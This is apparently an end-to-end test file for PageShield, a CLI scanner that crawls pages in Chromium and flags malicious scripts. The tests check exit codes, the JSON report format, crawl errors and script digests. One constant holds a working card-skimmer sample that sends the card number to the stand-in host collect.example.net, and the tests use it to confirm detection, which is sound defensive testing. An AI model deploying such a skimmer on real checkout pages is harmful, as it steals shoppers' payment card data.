using System.Security.Cryptography;
using System.Text;
using System.Text.Json.Nodes;
using Microsoft.AspNetCore.Http;
using PageShield.EndToEndTests.Crawls;

namespace PageShield.EndToEndTests.Scan;

/// <summary><c>scan</c> as scripts use it: exit codes, the JSON contract and the table.</summary>
public sealed class ScanTests(ChromiumFixture chromium)
{
    private const string Skimmer = """
        document.querySelector('form').addEventListener('submit', function () {
          var card = document.querySelector('input[name=cardnumber]').value;
          new Image().src = 'https://collect.example.net/p?d=' + btoa(card);
        });
        """;

    [Fact]
    public async Task The_JSON_of_a_scan_is_the_documented_one_in_every_field_with_digests_of_what_was_served()
    {
        chromium.Require();
        await using var shop = await ShopAsync();

        var (code, output, error) = await ScanAsync(shop, "--format", "json");

        Assert.True(code == 0, error);
        var folder = Path.Combine(AppContext.BaseDirectory, "Scan");
        var actual = Comparable(output, shop);
        await File.WriteAllTextAsync(Path.Combine(folder, "scan.actual.json"), actual + "\n", TestContext.Current.CancellationToken);
        var expected = await File.ReadAllTextAsync(Path.Combine(folder, "scan.json"), TestContext.Current.CancellationToken);
        Assert.Equal(expected.ReplaceLineEndings("\n").Trim(), actual);
        AssertDigestIsOfServedBytes(shop, output);
    }

    [Fact]
    public async Task Findings_at_or_above_the_limit_end_with_1_and_below_it_with_0()
    {
        chromium.Require();
        await using var shop = await ShopAsync();
        shop.Script("shop.localhost/app.js", Skimmer);

        var (found, table, _) = await ScanAsync(shop);
        var (tolerated, json, _) = await ScanAsync(shop, "--fail-on", "critical", "--format", "json");

        Assert.Equal(1, found);
        Assert.Contains("malicious", table, StringComparison.Ordinal);
        Assert.Contains("collect.example.net", table, StringComparison.Ordinal);
        Assert.Equal(JsonNode.Parse(json)!["findings"]!.AsArray().Any(finding => (string?)finding!["severity"] == "critical") ? 1 : 0, tolerated);
    }

    [Fact]
    public async Task What_cannot_be_crawled_ends_with_2_and_says_why()
    {
        chromium.Require();
        await using var shop = await ShopAsync();
        var gone = await ShopAsync();
        await gone.DisposeAsync();

        var (closed, table, refused) = await ScanAsync(gone);
        var (isPrivate, _, hint) = await BuiltProgram.RunCliAsync("scan", shop.Url("shop.localhost/"), "--browser", chromium.Path);
        var (wrong, _, message) = await BuiltProgram.RunCliAsync("scan", "ftp://shop.example/");

        Assert.Equal([2, 2, 2], [closed, isPrivate, wrong]);
        Assert.Contains("refused", refused, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("Nothing suspicious", table, StringComparison.Ordinal);
        Assert.DoesNotContain("chrome-error", table, StringComparison.Ordinal);
        Assert.Contains($"--allow-private shop.localhost:{shop.Port}", hint, StringComparison.Ordinal);
        Assert.Contains("https://shop.example/", message, StringComparison.Ordinal);
    }

    [Fact]
    public async Task The_result_goes_to_a_file_and_names_resolve_as_told()
    {
        chromium.Require();
        await using var shop = await ShopAsync();
        var file = Path.Combine(Directory.CreateTempSubdirectory("page-shield-out-").FullName, "scan.json");

        var (code, output, error) = await BuiltProgram.RunCliAsync(
            "scan", $"http://shop.example:{shop.Port}/", "--resolve", $"shop.example:{shop.Port}:127.0.0.1", "--allow-private",
            $"shop.example:{shop.Port}",
            "--browser", chromium.Path, "--pages", "1", "--format", "json", "--out", file);

        Assert.True(code == 0, error);
        Assert.Equal("", output);
        Assert.Equal(200, (int?)JsonNode.Parse(await File.ReadAllTextAsync(file, TestContext.Current.CancellationToken))!["pages"]![0]!["status"]);
    }

    [Fact]
    public async Task Theft_is_told_by_the_exit_code_whatever_else_went_wrong_and_trouble_only_where_nothing_was_found()
    {
        chromium.Require();
        await using var shop = await ShopAsync();
        shop.Html("shop.localhost/", "<!doctype html><title>Tea</title><script src=/app.js></script><form action=/pay method=post><input name=cardnumber autocomplete=cc-number></form><script src=/never.js></script>");
        shop.Answer("shop.localhost/never.js", static async context =>
        {
            context.Response.ContentType = "text/javascript";
            await context.Response.WriteAsync("var half = 1;");
            await context.Response.Body.FlushAsync();
            await Task.Delay(Timeout.Infinite, context.RequestAborted);
        });
        shop.Script("shop.localhost/app.js", Skimmer);

        var (found, _, trouble) = await ScanAsync(shop, "--pages", "1");
        shop.Script("shop.localhost/app.js", "window.shop = 1;");
        var (nothing, _, _) = await ScanAsync(shop, "--pages", "1");

        Assert.Equal((1, 2), (found, nothing));
        Assert.Contains("did not finish within", trouble, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_page_of_which_only_a_large_script_is_left_out_was_seen()
    {
        chromium.Require();
        await using var shop = await ShopAsync();
        shop.Html("shop.localhost/", "<!doctype html><title>Tea</title><script src=/large.js></script>");
        shop.Script("shop.localhost/large.js", $"var pad = '{new string('x', 9 << 20)}';");

        var (code, output, error) = await ScanAsync(shop, "--pages", "1", "--format", "json");

        Assert.True(code == 0, error);
        Assert.Equal("cut", (string?)JsonNode.Parse(output)!["pages"]![0]!["outcome"]);
    }

    [Fact]
    public async Task What_does_not_parse_is_as_unknown_here_as_on_the_server()
    {
        chromium.Require();
        await using var shop = await ShopAsync();
        shop.Html("shop.localhost/", "<!doctype html><title>Tea</title><script src=/broken.js></script>");
        shop.Script("shop.localhost/broken.js", "function ( {{{ 'unfinished");

        var (_, output, _) = await ScanAsync(shop, "--pages", "1", "--format", "json");

        Assert.Equal("unknown", (string?)JsonNode.Parse(output)!["scripts"]![0]!["verdict"]);
    }

    [Fact]
    public async Task The_README_s_first_scan_says_in_a_sentence_that_its_example_has_no_address()
    {
        chromium.Require();

        var (code, _, error) = await BuiltProgram.RunCliAsync("scan", "https://shop.example/", "--browser", chromium.Path);

        Assert.Equal(2, code);
        Assert.Contains("shop.example", error, StringComparison.Ordinal);
        Assert.DoesNotContain("   at ", error, StringComparison.Ordinal);
    }

    private Task<(int Code, string Output, string Error)> ScanAsync(FixtureSite shop, params string[] more) => BuiltProgram.RunCliAsync(
    [
        "scan", shop.Url("shop.localhost/"), "--allow-private", $"shop.localhost:{shop.Port}", "--allow-private", $"cdn.localhost:{shop.Port}",
        "--browser", chromium.Path, .. more,
    ]);

    private static async Task<FixtureSite> ShopAsync()
    {
        var shop = await FixtureSite.StartAsync();
        const string Page = """
            <!doctype html><title>Tea</title><script src="/app.js"></script><script>window.step = 'checkout';</script>
            <script type="module" src="http://cdn.localhost:PORT/old.js"></script>
            <a href="/about">About</a>
            <form action="/pay" method="post"><input name="cardnumber" autocomplete="cc-number"><button>Pay</button></form>
            """;
        shop.Html("shop.localhost/", Page, ("Set-Cookie", "basket=7; Path=/; HttpOnly; SameSite=Lax"), ("X-Content-Type-Options", "nosniff"));
        shop.Html("shop.example/", Page);
        shop.Html("shop.localhost/about", "<!doctype html><title>About</title><script src=\"/app.js\"></script><script src=\"/gone.js\"></script>");
        shop.Script("shop.localhost/app.js", "window.shop = { items: 2 };");
        shop.Script("shop.example/app.js", "window.shop = { items: 2 };");
        shop.Answer("cdn.localhost/old.js", context =>
        {
            context.Response.Headers.AccessControlAllowOrigin = "*";
            context.Response.Redirect(shop.Url("cdn.localhost/new.js"));
            return Task.CompletedTask;
        });
        shop.Script("cdn.localhost/new.js", "import './part.js';", ("Access-Control-Allow-Origin", "*"));
        shop.Script("cdn.localhost/part.js", "globalThis.part = 1;", ("Access-Control-Allow-Origin", "*"));
        return shop;
    }

    private static void AssertDigestIsOfServedBytes(FixtureSite shop, string output)
    {
        var script = JsonNode.Parse(output)!["scripts"]!.AsArray().Single(script => (string?)script!["url"] == shop.Url("shop.localhost/app.js"));
        Assert.Equal(Convert.ToHexStringLower(SHA256.HashData(Encoding.UTF8.GetBytes("window.shop = { items: 2 };"))), (string?)script!["sha256"]);
    }

    /// <summary>
    /// What differs from run to run is replaced: the port, times, the date header; the order of connections and how often each was made. Chromium
    /// asks for an icon when it likes.
    /// </summary>
    private static string Comparable(string json, FixtureSite shop)
    {
        var report = JsonNode.Parse(json.Replace($":{shop.Port}", ":PORT", StringComparison.Ordinal))!.AsObject();
        report["startedAt"] = "TIME";
        report["finishedAt"] = "TIME";
        foreach (var page in report["pages"]!.AsArray())
        {
            var headers = page!["headers"]!.AsObject();
            if (headers.ContainsKey("date")) headers["date"] = "TIME";
        }

        var connections = report["connections"]!.AsArray()
            .Where(connection => !((string?)connection!["url"])!.EndsWith("/favicon.ico", StringComparison.Ordinal))
            .OrderBy(connection => $"{connection!["url"]} {connection["type"]} {connection["initiator"]}", StringComparer.Ordinal)
            .Select(connection => connection!.DeepClone()).ToArray();
        foreach (var connection in connections)
        {
            connection["count"] = "N";
            connection["bytes"] = "N";
        }

        report["connections"] = new JsonArray(connections);
        return report.ToJsonString(new() { WriteIndented = true, Encoder = System.Text.Encodings.Web.JavaScriptEncoder.UnsafeRelaxedJsonEscaping })
            .ReplaceLineEndings("\n").Trim();
    }
}
